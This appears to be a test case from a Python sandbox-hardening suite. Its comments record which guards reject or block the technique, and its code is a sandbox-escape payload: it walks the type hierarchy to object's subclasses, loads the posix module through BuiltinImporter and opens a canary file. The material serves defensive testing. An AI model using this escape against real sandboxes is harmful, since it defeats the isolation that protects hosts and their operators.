# Technique   type of a type, whose mro leads to object
# Mechanism   type(x) has one argument
# As shipped  rejected: attribute, underscore
# Unguarded   blocked: openat

meta = type(type(()))
importer = [c for c in meta.mro(type(()))[-1].__subclasses__() if "BuiltinImporter" in str(c)][0]
return str(importer.load_module("posix").open(CANARY_FILE, 0))
